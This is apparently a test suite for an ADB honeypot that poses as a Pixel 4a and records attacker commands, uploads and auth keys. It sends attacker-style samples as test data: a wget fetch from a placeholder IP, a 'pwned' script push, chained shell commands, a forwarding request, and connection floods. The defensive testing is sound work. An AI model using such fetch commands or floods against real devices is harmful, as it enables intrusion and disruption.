import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createHash, randomBytes } from "node:crypto";
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import type { Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { encode, type Message, MessageDecoder } from "../../src/honeypots/adb/protocol";
import { shellPacket } from "../../src/honeypots/adb/shell-protocol";
import { type Pot, RawClient, Relay, removeDir, run, startPot } from "./harness";
import { flood, open, closed, closedCount, rssKb } from "./hostile";

const sha256 = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");

/** A private adb server per test file, so test files and a developer's own adb never meet. */
let work: string;
let adbEnv: Record<string, string>;

async function freePort(): Promise<number> {
  const probe = Bun.listen({ hostname: "127.0.0.1", port: 0, socket: { data() {} } });
  const port = probe.port;
  probe.stop(true);
  return port;
}

function adb(args: string[], stdin?: string) {
  return run(["adb", ...args], stdin, adbEnv);
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), "honeybee-adb-client-"));
  adbEnv = { PATH: process.env.PATH ?? "", HOME: work, TMPDIR: work, ADB_SERVER_SOCKET: `tcp:localhost:${await freePort()}` };
  const started = await adb(["start-server"]);
  expect(started.code).toBe(0);
});

afterAll(async () => {
  try {
    await adb(["kill-server"]);
  } finally {
    removeDir(work);
  }
});

/** A hand-made adb client, for what Debian's adb never sends: v1 shells, AUTH, refused services. */
async function rawConnect(port: number, features = "shell_v2,cmd"): Promise<RawClient> {
  const client = await RawClient.connect(port);
  client.send(encode("CNXN", 0x01000001, 256 * 1024, Buffer.from(`host::features=${features}`)));
  await client.waitFor("CNXN");
  return client;
}

function messages(client: RawClient): Message[] {
  return new MessageDecoder().push(client.bytes);
}

describe("the adb honeypot, attacked with Debian's adb", () => {
  let relay: Relay;
  let pot: Pot<"adb">;
  let serial: string;
  let session: string;
  let connected: Awaited<ReturnType<typeof adb>>;

  beforeAll(async () => {
    relay = Relay.start();
    pot = await startPot("adb", { adb_port: "0", upload_max_bytes: "300000" }, relay);
    serial = `127.0.0.1:${pot.ports.adb}`;
    connected = await adb(["connect", serial]);
    session = (await relay.event("adb.client.connect")).session;
  });

  afterAll(async () => {
    if (pot.proc.exitCode === null) await pot.stop();
    relay.stop();
    removeDir(pot.dir);
  });

  const shell = (args: string[], stdin?: string) => adb(["-s", serial, "shell", ...args], stdin);
  const common = () => ({ src_ip: "127.0.0.1", src_port: expect.any(Number), dst_ip: "127.0.0.1", dst_port: pot.ports.adb, protocol: "adb", session, timestamp: expect.any(String), pot_id: "adb-test", pot_type: "adb", node_id: expect.anything() });

  test("adb connect: a Pixel 4a; the client's banner and features are recorded", async () => {
    expect(connected.stdout).toBe(`connected to ${serial}\n`);
    const devices = await adb(["devices", "-l"]);
    expect(devices.stdout).toMatch(new RegExp(`\\n${serial.replace(/\./g, "\\.")}\\s+device product:sunfish model:Pixel_4a device:sunfish transport_id:\\d+\\n`));
    expect(await relay.event("adb.client.connect")).toEqual({
      eventid: "adb.client.connect",
      banner: expect.stringMatching(/^host::features=.*shell_v2/),
      system_type: "host",
      serial: "",
      features: expect.stringContaining("shell_v2"),
      version: "0x01000001",
      maxdata: expect.any(Number),
      ...common(),
    });
    expect((await relay.event("adb.session.connect", { session })).eventid).toBe("adb.session.connect");
  });

  test("adb shell CMD: getprop and uname answer as the phone, each command is recorded", async () => {
    expect(await shell(["getprop", "ro.product.model"])).toEqual({ code: 0, stdout: "Pixel 4a\n", stderr: "" });
    const uname = await shell(["uname", "-a"]);
    expect(uname.stdout).toMatch(/^Linux localhost 4\.14\.\S+ #1 SMP PREEMPT .* aarch64 Toybox\n$/);
    expect(await relay.event("adb.command.input", { input: "getprop ro.product.model" })).toEqual({ eventid: "adb.command.input", input: "getprop ro.product.model", service: "shell,v2,raw", ...common() });
    await relay.event("adb.command.input", { input: "uname -a" });
    expect(await shell(["wget", "http://203.0.113.9/x"])).toEqual({ code: 127, stdout: "", stderr: "/system/bin/sh: wget: inaccessible or not found\n" });
    expect(await shell(["ls", "/data", ";", "false"])).toEqual({ code: 1, stdout: "", stderr: "ls: /data: Permission denied\n" });
  });

  test("adb shell with lines on stdin: no prompt, every line recorded, exit status passed on", async () => {
    const r = await shell([], "id\ncd /data/local/tmp\npwd\nls /\nexit 3\n");
    expect(r.code).toBe(3);
    expect(r.stdout).toStartWith("uid=2000(shell) gid=2000(shell) ");
    expect(r.stdout).toContain("\n/data/local/tmp\nacct\napex\n");
    for (const input of ["id", "cd /data/local/tmp", "pwd", "ls /", "exit 3"]) await relay.event("adb.command.input", { input, service: "shell,v2,raw" });
  });

  test("adb shell -tt: a terminal with the device's prompt, echo and CRLF", async () => {
    const r = await shell(["-tt"], "getprop ro.product.device\nexit\n");
    expect(r.stdout).toBe("sunfish:/ $ getprop ro.product.device\r\nsunfish\r\nsunfish:/ $ exit\r\n");
    expect(r.code).toBe(0);
    await relay.event("adb.command.input", { input: "getprop ro.product.device", service: "shell,v2,pty" });
  });

  test("adb push: the file is captured in the outbox under its SHA-256 and shows in ls", async () => {
    const big = randomBytes(200_000);
    const small = Buffer.from("#!/system/bin/sh\necho pwned\n");
    writeFileSync(join(work, "big.bin"), big);
    writeFileSync(join(work, "run.sh"), small);
    chmodSync(join(work, "run.sh"), 0o755);
    const pushed = await adb(["-s", serial, "push", join(work, "big.bin"), "/data/local/tmp/x"]);
    expect(pushed.code).toBe(0);
    expect(pushed.stdout).toContain("1 file pushed");
    expect((await adb(["-s", serial, "push", join(work, "run.sh"), "/data/local/tmp/"])).code).toBe(0);

    const upload = await relay.event("adb.session.file_upload", { filename: "/data/local/tmp/x" });
    expect(upload).toEqual({ eventid: "adb.session.file_upload", filename: "/data/local/tmp/x", shasum: sha256(big), outfile: `outbox/${sha256(big)}`, size: 200_000, truncated: false, mode: "0644", protocol_upload: "sync", ...common() });
    expect(sha256(readFileSync(join(pot.dir, upload.outfile)))).toBe(sha256(big));
    const sighting = readdirSync(join(pot.dir, "outbox")).find((f) => f.startsWith(`${sha256(big)}.`) && f.endsWith(".json"));
    expect(JSON.parse(readFileSync(join(pot.dir, "outbox", sighting as string), "utf8")).meta).toMatchObject({ source: "adb.session.file_upload", session, url: "/data/local/tmp/x", filename: "/data/local/tmp/x", truncated: false });
    expect(await relay.event("adb.session.file_upload", { filename: "/data/local/tmp/run.sh" })).toMatchObject({ shasum: sha256(small), size: small.length, mode: "0755" });

    const ls = await shell(["ls", "-l", "/data/local/tmp"]);
    expect(ls.stdout).toMatch(/\n-rwxrwxrwx 1 shell +shell +28 \S+ \S+ run\.sh\n/);
    expect(ls.stdout).toMatch(/\n-rw-rw-rw- 1 shell +shell +200000 \S+ \S+ x\n$/);
    expect((await shell(["cat", "/data/local/tmp/run.sh"])).stdout).toBe(small.toString());
  });

  test("a push past upload_max_bytes is kept up to it and marked truncated", async () => {
    const huge = randomBytes(400_000);
    writeFileSync(join(work, "huge.bin"), huge);
    expect((await adb(["-s", serial, "push", join(work, "huge.bin"), "/sdcard/Download/huge.bin"])).code).toBe(0);
    const kept = huge.subarray(0, 300_000);
    const upload = await relay.event("adb.session.file_upload", { filename: "/sdcard/Download/huge.bin" });
    expect(upload).toMatchObject({ shasum: sha256(kept), outfile: `outbox/${sha256(kept)}`, size: 300_000, truncated: true, limit: 300_000, sent: 400_000 });
    expect(readFileSync(join(pot.dir, upload.outfile)).length).toBe(300_000);
  });

  test("a push to a read-only place fails as on the phone, and the file is captured all the same", async () => {
    const r = await adb(["-s", serial, "push", join(work, "run.sh"), "/system/bin/run.sh"]);
    expect(r.code).toBe(1);
    expect(r.stdout + r.stderr).toContain("adb: error: failed to copy '" + join(work, "run.sh") + "' to '/system/bin/run.sh': remote couldn't create file: Read-only file system");
    expect(await relay.event("adb.session.file_upload", { filename: "/system/bin/run.sh" })).toMatchObject({ refused: "couldn't create file: Read-only file system", size: 28 });
  });

  test("adb pull fails; adb ls lists the pushed files", async () => {
    const pulled = await adb(["-s", serial, "pull", "/data/local/tmp/x", join(work, "back")]);
    expect(pulled.code).toBe(1);
    expect(pulled.stdout + pulled.stderr).toContain("adb: error: failed to copy '/data/local/tmp/x' to '" + join(work, "back") + "': remote open failed: Permission denied");
    expect(existsSync(join(work, "back"))).toBe(false);
    const listed = await adb(["-s", serial, "ls", "/data/local/tmp"]);
    expect(listed.stdout.split("\n").map((l) => l.split(" ").at(-1))).toEqual([".", "..", "run.sh", "x", ""]);
  });

  test("adb install streams the APK into `package install` (abb_exec): captured, and Success", async () => {
    const apk = Buffer.concat([Buffer.from("PK\x03\x04"), randomBytes(5000)]);
    writeFileSync(join(work, "app.apk"), apk);
    const r = await adb(["-s", serial, "install", join(work, "app.apk")]);
    expect(r.stdout).toContain("Success");
    expect(r.code).toBe(0);
    await relay.event("adb.command.input", { input: `package install -S ${apk.length}`, service: "abb_exec" });
    expect(await relay.event("adb.session.file_upload", { protocol_upload: "install" })).toMatchObject({ filename: expect.stringMatching(/^\/data\/app\/vmdl\d+\.tmp\/base\.apk$/), shasum: sha256(apk), size: apk.length, truncated: false });
  });

  test("adb root and remount answer as a production build", async () => {
    expect((await adb(["-s", serial, "root"])).stdout).toBe("adbd cannot run as root in production builds\n");
    await relay.event("adb.command.input", { input: "root", service: "root:" });
    const remount = await adb(["-s", serial, "remount"]);
    expect(remount.stdout + remount.stderr).toContain('Not running as root. Try "adb root" first.');
    expect(remount.code).toBe(1);
    await relay.event("adb.command.input", { input: "remount" });
  });

  test("an old client without shell_v2 gets a raw shell; forwarding is refused; an AUTH key is taken", async () => {
    const client = await rawConnect(pot.ports.adb, "");
    const [reply] = messages(client);
    expect(reply).toMatchObject({ command: "CNXN", arg0: 0x01000001, arg1: 256 * 1024 });
    expect(reply?.data.toString()).toBe("device::ro.product.name=sunfish;ro.product.model=Pixel 4a;ro.product.device=sunfish;features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir,apex,abb,fixed_push_symlink_timestamp,abb_exec,remount_shell");
    client.send(encode("OPEN", 7, 0, Buffer.from("shell:echo hi; getprop ro.build.version.release\0")));
    await client.waitFor("WRTE");
    // adb's flow control: the device sends nothing more (its CLSE included) before our OKAY.
    client.send(encode("OKAY", 7, 1));
    await client.waitFor("CLSE");
    expect(messages(client).slice(1).map((m) => [m.command, m.arg0, m.arg1, m.data.toString()])).toEqual([
      ["OKAY", 1, 7, ""],
      ["WRTE", 1, 7, "hi\n10\n"],
      ["CLSE", 1, 7, ""],
    ]);
    // abb: is `cmd` with NUL-separated arguments, framed with the shell protocol.
    client.send(encode("OPEN", 9, 0, Buffer.from("abb:package\0list\0packages\0com.whatsapp")));
    await client.waitFor("WRTE", 2);
    client.send(encode("OKAY", 9, 2));
    await client.waitFor("WRTE", 3);
    client.send(encode("OKAY", 9, 2));
    await client.waitFor("CLSE", 2);
    const abb = messages(client).filter((m) => m.command === "WRTE" && m.arg1 === 9);
    expect(Buffer.concat(abb.map((m) => m.data))).toEqual(Buffer.concat([shellPacket(1, "package:com.whatsapp\n"), shellPacket(3, Buffer.of(0))]));
    client.send(encode("OPEN", 8, 0, Buffer.from("tcp:203.0.113.1:80\0")));
    await client.waitFor("CLSE", 3);
    expect(messages(client).at(-1)).toMatchObject({ command: "CLSE", arg0: 0, arg1: 8 });
    const refused = await relay.event("adb.command.input", { input: "tcp 203.0.113.1:80" });
    expect(refused).toMatchObject({ service: "tcp:203.0.113.1:80", refused: true });

    const keygen = await run(["adb", "keygen", join(work, "adbkey")], undefined, adbEnv);
    expect(keygen.code).toBe(0);
    const pub = readFileSync(join(work, "adbkey.pub"), "utf8");
    client.send(encode("AUTH", 3, 0, Buffer.from(`${pub}\0`)));
    await client.waitFor("CNXN", 2);
    const md5 = createHash("md5").update(Buffer.from(pub.split(" ")[0] as string, "base64")).digest("hex").toUpperCase();
    expect(await relay.event("adb.client.auth")).toMatchObject({ auth_type: "publickey", fingerprint: md5.match(/../g)!.join(":"), key: pub.split(" ")[0], comment: pub.split(" ")[1]?.trim() });
    client.close();
    await client.closed;
  });

  test("nmap -sV names it Android Debug Bridge", async () => {
    // The adbConnect probe is rarity 8 and registered for port 5555 only: on another port it
    // takes --version-intensity 8 (on 5555 nmap's default tries it).
    const r = await run(["nmap", "-sV", "-Pn", "--version-intensity", "8", "-p", String(pot.ports.adb), "127.0.0.1"]);
    expect(r.stdout).toMatch(new RegExp(`${pot.ports.adb}/tcp\\s+open\\s+adb\\s+Android Debug Bridge device \\(name: sunfish; model: Pixel 4a; device: sunfish; features: shell_v2,cmd,`));
  }, 120_000);

  test("adb reboot: recorded, and the device drops off", async () => {
    expect((await adb(["-s", serial, "reboot"])).code).toBe(0);
    await relay.event("adb.command.input", { input: "reboot", session });
    expect(await relay.event("adb.session.closed", { session })).toMatchObject({ duration: expect.any(Number) });
  });
});

describe("hostile input", () => {
  test("garbage, floods and too many connections: the pot stays up and small, and a real client is still recorded", async () => {
    const relay = Relay.start();
    const pot = await startPot("adb", { adb_port: "0", max_connections: "16", upload_max_bytes: "1000000" }, relay);
    const serial = `127.0.0.1:${pot.ports.adb}`;
    const sockets: Socket[] = [];
    try {
      expect((await adb(["connect", serial])).stdout).toBe(`connected to ${serial}\n`);
      const cnxn = encode("CNXN", 0x01000001, 256 * 1024, Buffer.from("host::features=shell_v2"));
      const wrte = (local: number, data: Buffer) => encode("WRTE", 1, local, data);

      const garbage = await open(pot.ports.adb);
      sockets.push(garbage);
      await flood(garbage, randomBytes(64 * 1024), 8 * 1024 * 1024);

      const hugeHeader = await open(pot.ports.adb);
      sockets.push(hugeHeader);
      const header = encode("WRTE", 1, 1);
      header.writeUInt32LE(0x7fffffff, 12);
      hugeHeader.write(Buffer.concat([cnxn, header]));

      const pty = await open(pot.ports.adb);
      sockets.push(pty);
      pty.write(Buffer.concat([cnxn, encode("OPEN", 1, 0, Buffer.from("shell:\0"))]));
      const noNewline = wrte(1, Buffer.alloc(256 * 1024, 0x41));
      const piped = await open(pot.ports.adb);
      sockets.push(piped);
      piped.write(Buffer.concat([cnxn, encode("OPEN", 1, 0, Buffer.from("shell,v2,raw:\0"))]));
      const stdinPacket = Buffer.concat([Buffer.of(0), Buffer.from([0xfb, 0xff, 0x03, 0x00]), Buffer.alloc(256 * 1024 - 5, 0x42)]);
      const sync = await open(pot.ports.adb);
      sockets.push(sync);
      const send = Buffer.from("SEND\0\0\0\0/data/local/tmp/flood,33261");
      send.writeUInt32LE(send.length - 8, 4);
      sync.write(Buffer.concat([cnxn, encode("OPEN", 1, 0, Buffer.from("sync:\0")), wrte(1, send)]));
      const data = Buffer.concat([Buffer.from("DATA\0\0\x01\0", "latin1"), Buffer.alloc(64 * 1024, 0x43)]);

      const floods = Promise.all([flood(pty, noNewline, 8 * 1024 * 1024), flood(piped, wrte(1, stdinPacket), 8 * 1024 * 1024), flood(sync, wrte(1, data), 12 * 1024 * 1024)]);
      // While they flood, more connections than max_connections, and a real client's command.
      const swarm = await Promise.all(Array.from({ length: 40 }, () => open(pot.ports.adb)));
      sockets.push(...swarm);
      expect((await adb(["-s", serial, "shell", "echo", "during"])).stdout).toBe("during\n");
      await floods;
      const done = Buffer.from("DONE\0\0\0\0", "latin1");
      sync.write(wrte(1, done));
      const upload = await relay.event("adb.session.file_upload", { filename: "/data/local/tmp/flood" });
      expect(upload).toMatchObject({ size: 1_000_000, truncated: true, limit: 1_000_000, mode: "0755" });
      expect(upload.sent).toBeGreaterThanOrEqual(11 * 1024 * 1024);

      // At most 16 connections are open at once: at least 24 of the 40 were closed at once.
      expect(await closedCount(swarm, 24)).toBeGreaterThanOrEqual(24);
      await closed(garbage);
      await closed(hugeHeader);
      const rss = rssKb(pot.proc.pid);
      console.log(`adb pot VmRSS after the floods: ${rss} kB`);
      expect(rss).toBeLessThan(150 * 1024);
      expect(pot.proc.exitCode).toBeNull();

      for (const s of sockets) s.destroy();
      await adb(["disconnect", serial]);
      expect((await adb(["connect", serial])).stdout).toBe(`connected to ${serial}\n`);
      expect((await adb(["-s", serial, "shell", "getprop", "ro.product.model"])).stdout).toBe("Pixel 4a\n");
      const during = await relay.event("adb.command.input", { input: "echo during" });
      const after = await relay.event("adb.command.input", { input: "getprop ro.product.model" });
      expect(after.session).not.toBe(during.session);
      expect(relay.session(during.session).map((e) => e.eventid)).toEqual(["adb.session.connect", "adb.client.connect", "adb.command.input", "adb.session.closed"]);
    } finally {
      for (const s of sockets) s.destroy();
      await adb(["disconnect", serial]);
      if (pot.proc.exitCode === null) await pot.stop();
      relay.stop();
      removeDir(pot.dir);
    }
  }, 120_000);
});
